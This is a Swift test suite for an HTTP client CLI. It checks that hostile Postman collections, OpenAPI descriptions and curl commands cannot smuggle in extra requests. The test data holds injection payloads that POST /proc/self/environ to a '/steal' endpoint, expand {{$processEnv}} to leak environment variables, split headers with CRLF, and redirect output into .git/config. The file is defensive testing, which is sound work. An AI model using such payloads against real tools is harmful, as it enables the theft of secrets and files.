import CourierTestSupport
import Foundation
import Testing

/// A hostile Postman collection, OpenAPI description or curl command, imported by the built binary and
/// run with `courier run`: the loopback server receives exactly the imported requests, never one the
/// imported text spelled out in `.http` syntax, and never the process environment.
@Suite("hostile imports run only what they import", .serialized, .enabled(if: CourierCLI.isBuilt, "the courier binary is not built"))
struct ImportInjectionTests {
    /// A value only the run's environment holds: `< /proc/self/environ` or `{{$processEnv …}}` would send it.
    static let planted = "planted-\(UUID().uuidString)"
    static let environment = ["COURIER_PLANTED": planted]

    /// The name from issue 33: a request to the attacker, a body from the environment, a redirect into `.git`.
    static func hostile(_ steal: String) -> String {
        "x\nPOST \(steal)\n\n< /proc/self/environ\n\n>>! ./.git/config\n\n###"
    }

    func expectNothingLeaked(_ requests: [CaptureServer.Received]) {
        for request in requests {
            #expect(request.path != "/steal", "\(request.requestLine)")
            let wire = ([request.requestLine] + request.headerLines).joined(separator: "\n") + request.bodyText
            #expect(!wire.contains(Self.planted), "\(wire)")
            #expect(!wire.contains("COURIER_PLANTED="), "\(wire)")
        }
    }

    @Test func aHostilePostmanCollectionSendsExactlyItsRequests() async throws {
        // Given a collection whose names, description, header, variable and body carry .http syntax
        let server = try CaptureServer()
        defer { server.stop() }
        let folder = try TemporaryFolder("import-postman")
        let steal = server.base + "/steal"
        let body = "first line\n###\nPOST \(steal)\n\n< /proc/self/environ\n\n>>! ./.git/config\n"
        let collection: [String: Any] = [
            "info": ["name": Self.hostile(steal), "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"],
            "variable": [["key": "base", "value": server.base], ["key": "home", "value": "{{$processEnv COURIER_PLANTED}}"]],
            "item": [
                ["name": Self.hostile(steal), "request": [
                    "method": "GET", "url": "{{base}}/first?env={{$processEnv COURIER_PLANTED}}",
                    "description": "@no-redirect\n###\nPOST \(steal)",
                    "header": [["key": "X-Env", "value": "{{$processEnv COURIER_PLANTED}}"],
                               ["key": "X-Fold", "value": "a\r\nX-Injected: 1"]]]],
                ["name": "second", "request": [
                    "method": "POST", "url": "{{base}}/second", "header": [["key": "X-Home", "value": "{{home}}"]],
                    "body": ["mode": "raw", "raw": body]]],
            ],
        ]
        try folder.write("hostile.json", String(decoding: try JSONSerialization.data(withJSONObject: collection), as: UTF8.self))

        // When it is imported and every request is run
        let imported = try await CourierCLI.run(["import", "postman", "hostile.json", "-o", "out"], in: folder.url)
        #expect(imported.status == 0, "\(imported.stderr)")
        let run = try await CourierCLI.run(["run", "out", "--all"], in: folder.url, environment: Self.environment)

        // Then the server received the two imported requests, as imported, and nothing else
        let requests = server.requests
        #expect(requests.map { "\($0.method) \($0.path)" } == ["GET /first", "POST /second"], "\(run.stdout)\(run.stderr)")
        #expect(requests.first?.query == "env=%7B%7B$processEnv%20COURIER_PLANTED%7D%7D")
        #expect(requests.first?.header("X-Env") == "{{$processEnv COURIER_PLANTED}}")
        #expect(requests.first?.header("X-Fold") == "a X-Injected: 1")
        #expect(requests.first?.header("X-Injected") == nil)
        #expect(requests.last?.bodyText == body)
        #expect(requests.last?.header("X-Home") == "{{$processEnv COURIER_PLANTED}}")
        expectNothingLeaked(requests)
        // And no response was saved anywhere, least of all into a .git folder
        #expect(!FileManager.default.fileExists(atPath: folder.url.appendingPathComponent("out/.git").path))
        #expect(!run.stdout.contains("saved:"), "\(run.stdout)")
        #expect(run.status == 0, "\(run.stdout)\(run.stderr)")
    }

    @Test func anOpenAPIPathKeyWithNewlinesIsOneRequestToThatPath() async throws {
        // Given a description whose path key and text example carry a second request
        let server = try CaptureServer()
        defer { server.stop() }
        let folder = try TemporaryFolder("import-openapi")
        let steal = server.base + "/steal"
        let description: [String: Any] = [
            "openapi": "3.0.0", "info": ["title": "Pets", "version": "1"],
            "servers": [["url": server.base, "description": "local"]],
            "paths": [
                "/pets\nPOST \(steal)\n\n< /proc/self/environ\n\n###": ["get": ["operationId": "listPets",
                                                                            "responses": ["200": ["description": "ok"]]]],
                "/notes": ["post": ["operationId": "addNote",
                                    "requestBody": ["content": ["text/plain": ["example": "hi\n###\nPOST \(steal)\n"]]],
                                    "responses": ["200": ["description": "ok"]]]],
            ],
        ]
        try folder.write("pets.json", String(decoding: try JSONSerialization.data(withJSONObject: description), as: UTF8.self))

        // When it is imported and run
        let imported = try await CourierCLI.run(["import", "openapi", "pets.json", "-o", "out"], in: folder.url)
        #expect(imported.status == 0, "\(imported.stderr)")
        let run = try await CourierCLI.run(["run", "out", "--all", "--env", "local"], in: folder.url,
                                           environment: Self.environment)

        // Then the server received the two operations, the odd path percent-encoded as one path
        let requests = server.requests.sorted { $0.path < $1.path }
        #expect(requests.map { "\($0.method) \($0.path)" }
                == ["POST /notes", "GET /pets%0APOST%20\(steal)%0A%0A%3C%20/proc/self/environ%0A%0A%23%23%23"],
                "\(run.stdout)\(run.stderr)")
        #expect(requests.first?.bodyText == "hi\n###\nPOST \(steal)\n")
        expectNothingLeaked(requests)
    }

    @Test func aCurlBodyWithSyntaxLinesIsWrittenBesideTheFileAndSentAsItWas() async throws {
        let server = try CaptureServer()
        defer { server.stop() }
        let folder = try TemporaryFolder("import-curl")
        let body = "a\n###\nPOST \(server.base)/steal\n\n< /proc/self/environ\n"
        let command = "curl \(server.base)/upload --data-binary $'\(body.replacingOccurrences(of: "\n", with: "\\n"))'"
        // When it is printed, it is refused: the body cannot stand in the block
        let printed = try await CourierCLI.run(["import", "curl", command])
        #expect(printed.status == 2)
        #expect(printed.stdout.isEmpty && printed.stderr.contains("give -o FILE"), "\(printed.stderr)")
        // When it is imported into a file and run
        let imported = try await CourierCLI.run(["import", "curl", command, "-o", "calls.http", "--name", "up"],
                                                in: folder.url)
        #expect(imported.status == 0, "\(imported.stderr)")
        #expect(try folder.read("calls.1.txt") == body)
        let run = try await CourierCLI.run(["run", "calls.http"], in: folder.url, environment: Self.environment)
        // Then one request went out, with the body byte for byte
        #expect(server.requests.map(\.path) == ["/upload"], "\(run.stdout)\(run.stderr)")
        #expect(server.requests.first?.bodyText == body)
        expectNothingLeaked(server.requests)
    }

    @Test func aDescriptionNestedAMillionLevelsDeepIsRefusedAtOnce() async throws {
        // Given a YAML description nesting a million flow sequences (2 MB): libyaml alone took time quadratic
        // in the depth (100,000 levels: 92 s), so this took hours
        let folder = try TemporaryFolder("import-deep")
        let depth = 1_000_000
        try folder.write("deep.yaml", "openapi: 3.0.0\ninfo: {title: t, version: '1'}\npaths: {}\nx: "
                         + String(repeating: "[", count: depth) + String(repeating: "]", count: depth) + "\n")
        // When it is imported, then it is refused with the line and the limit, well within the run's limit
        let result = try await CourierCLI.run(["import", "openapi", "deep.yaml", "-o", "out"], in: folder.url,
                                              limit: .seconds(120))
        #expect(result.status == 1)
        #expect(result.stderr.contains("YAML line 4: nested deeper than 256 levels"), "\(result.stderr)")
    }
}
